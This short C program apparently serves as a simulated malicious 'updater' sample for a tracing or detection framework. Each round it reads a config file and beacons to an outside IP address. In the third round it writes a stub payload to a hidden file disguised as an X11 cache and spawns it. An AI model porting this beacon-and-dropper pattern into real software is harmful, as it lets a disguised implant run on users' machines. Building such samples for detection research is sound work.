/* An "updater" that calls home each round and in the third one drops and starts something else. */
#include "user.h"

static const char beacon[] = "GET /v2/manifest?id=demo HTTP/1.1";
static const char payload[] = "#!native implant\n";

TRACEABLE void call_home(void)
{
	sys_send(ADDRESS(198, 51, 100, 7), beacon, sizeof beacon - 1);
}

TRACEABLE void drop_payload(void)
{
	int fd = sys_open("/tmp/.X11-cache", OPEN_WRITE | OPEN_CREATE);
	if (fd < 0)
		return;
	sys_write(fd, payload, sizeof payload - 1);
	sys_close(fd);
	sys_spawn("/tmp/.X11-cache");
}

void updater_main(void)
{
	char buffer[64];
	u64 round = 0;
	for (;;) {
		round = sys_next_round(round);
		read_whole("/etc/update.conf", buffer, sizeof buffer);
		call_home();
		if (round == 3)
			drop_payload();
	}
}
